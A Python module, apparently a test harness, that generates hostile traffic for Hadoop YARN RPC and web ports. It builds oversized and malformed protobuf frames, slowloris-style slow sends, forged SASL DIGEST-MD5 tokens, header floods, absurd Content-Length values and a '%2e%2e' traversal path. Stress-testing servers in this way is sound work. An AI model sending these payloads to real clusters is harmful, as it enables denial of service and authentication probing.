"""What hostile peers of a port send, as chunks of bytes with pauses, and the few messages of Hadoop RPC it takes."""

import os
import random

# hrpc, version 9, service class 0; then simple authentication or SASL.
SIMPLE, SASL = b"hrpc\x09\x00\x00", b"hrpc\x09\x00\xdf"
CALL_ID_CONTEXT, CALL_ID_SASL = -3, -33
NEGOTIATE, INITIATE, RESPONSE = 1, 2, 4
YARN = "org.apache.hadoop.yarn."
PROTOCOLS = {
    "rm.client": (YARN + "api.ApplicationClientProtocolPB",
                  ("getClusterMetrics", "getApplications", "submitApplication", "getQueueInfo", "noSuchMethod")),
    "rm.scheduler": (YARN + "api.ApplicationMasterProtocolPB", ("registerApplicationMaster", "allocate")),
    "rm.tracker": (YARN + "server.api.ResourceTrackerPB", ("registerNodeManager", "nodeHeartbeat")),
    "rm.admin": (YARN + "server.api.ResourceManagerAdministrationProtocolPB", ("refreshQueues", "refreshNodes")),
    "rpc": (YARN + "api.ContainerManagementProtocolPB", ("startContainers", "getContainerStatuses")),
}
NOISE = os.urandom(1 << 20)
# Sizes of requests that are really sent, MiB: each as often as it stands here.
BIG_MIB = (23, 64, 12, 4, 1, 1, 1, 1)


def varint(value):
    """A protobuf varint."""
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def number(field, value):
    """A protobuf field that holds a number."""
    return varint(field << 3) + varint(value)


def data(field, value):
    """A protobuf field that holds bytes or text."""
    value = value.encode() if isinstance(value, str) else value
    return varint(field << 3 | 2) + varint(len(value)) + value


def frame(call_id, *messages):
    """A request frame: length, RpcRequestHeaderProto, messages, each after its length."""
    header = (number(1, 2) + number(2, 0) + number(3, call_id * 2 if call_id >= 0 else -call_id * 2 - 1)
              + data(4, bytes(16)) + number(5, 0))
    body = b"".join(varint(len(one)) + one for one in (header, *messages))
    return len(body).to_bytes(4, "big") + body


def context(protocol, user="mallory"):
    """The IpcConnectionContextProto of a client without a token."""
    return frame(CALL_ID_CONTEXT, data(2, data(1, user)) + data(3, protocol))


def call(protocol, method, body=b"", call_id=0):
    """A call: RequestHeaderProto and the request message."""
    return frame(call_id, data(1, method) + data(2, protocol) + number(3, 1), body)


def sasl(state, token=b"", auths=b""):
    """A RpcSaslProto."""
    return frame(CALL_ID_SASL, number(2, state) + (data(3, token) if token else b"") + auths)


def noise(count):
    """So many random bytes, cut from one block: the attack shall be cheap for the attacker."""
    start = random.randrange(len(NOISE) - count)
    return NOISE[start:start + count]


def _token():
    """An INITIATE that the server offers, with an identifier nobody issued, and a digest of it."""
    auth = data(4, data(1, "TOKEN") + data(2, "DIGEST-MD5") + data(3, "") + data(4, "default"))
    digest = (b'charset=utf-8,username="' + noise(30).hex().encode() + b'",realm="default",nonce="x",nc=00000001,'
              b'cnonce="y",digest-uri="/default",maxbuf=65536,response=' + noise(16).hex().encode() + b",qop=auth")
    return sasl(INITIATE, b"", auth), sasl(RESPONSE, digest)


def rpc_attack(kind, port):
    """The (bytes, pause in s) of one connection to an RPC port."""
    protocol, methods = PROTOCOLS[port]
    opened = SIMPLE + context(protocol)
    if kind == "random":
        yield random.choice((b"", SIMPLE, SASL, opened)) + noise(random.randrange(1, 16384)), 0
    elif kind == "length":
        length = random.choice((0x7FFFFFFF, 0xFFFFFFFF, 0x80000000, 128 << 20, (128 << 20) - 1, 64 << 20))
        yield random.choice((SIMPLE, opened)) + length.to_bytes(4, "big") + noise(1024), 0
    elif kind == "big":
        yield opened, 0
        # A quarter is sent but for its end; what the port takes at most is 24 MiB.
        whole = call(protocol, random.choice(methods), NOISE * random.choice(BIG_MIB))
        whole = whole[:len(whole) - random.choice((0, 0, 0, 1))]
        for start in range(0, len(whole), len(NOISE)):
            yield whole[start:start + len(NOISE)], 0
    elif kind == "dense":
        # Elements of two bytes, of which each may become a structure of hundreds.
        body = bytes((random.randrange(1, 16) << 3 | 2, 0)) * random.choice((8000, 8 << 10, 100000, 1 << 20, 4 << 20))
        yield opened + call(protocol, random.choice(methods), body), 0
    elif kind == "half":
        whole = opened + call(protocol, random.choice(methods), noise(2048))
        yield whole[:random.randrange(1, len(whole))], 0
    elif kind == "slow":
        for one in SASL + sasl(NEGOTIATE):
            yield bytes((one,)), 0.1
    elif kind == "sasl":
        initiate, response = _token()
        yield SASL + sasl(NEGOTIATE) + initiate + response, 0
        yield b"".join(random.choice((sasl(NEGOTIATE), initiate, response)) for _ in range(200)), 0
    else:
        yield opened, 0
        for index in range(50):
            body = noise(random.randrange(0, 512))
            yield call(protocol, random.choice(methods), random.choice((b"", body)), index), 0


def http_attack(kind):
    """The (bytes, pause in s) of one connection to a web port."""
    start = b"GET /ws/v1/cluster/info HTTP/1.1\r\nHost: x\r\n"
    if kind == "random":
        yield noise(random.randrange(1, 16384)), 0
    elif kind == "length":
        length = random.choice((b"9223372036854775807", b"-1", b"99999999999999999999999", b"1073741824"))
        yield b"PUT /ws/v1/cluster/apps/application_1_0001/state HTTP/1.1\r\nHost: x\r\nContent-Length: " + length, 0
        yield b"\r\n\r\n" + noise(1024), 0
    elif kind == "half":
        yield (start + b"Accept: application/json\r\n")[:random.randrange(1, 60)], 0
    elif kind == "slow":
        for one in start:
            yield bytes((one,)), 0.1
    elif kind == "headers":
        yield start, 0
        for index in range(64):
            yield b"X-%d: " % index + b"a" * 16384 + b"\r\n", 0
    else:
        path = noise(200).hex().encode()
        yield (start + b"\r\n") * 50 + b"GET /%2e%2e/" + path + b" HTTP/1.1\r\nHost: x\r\n\r\n", 0


RPC_KINDS = ("random", "length", "big", "dense", "half", "slow", "sasl", "calls")
HTTP_KINDS = ("random", "length", "half", "slow", "headers", "flood")
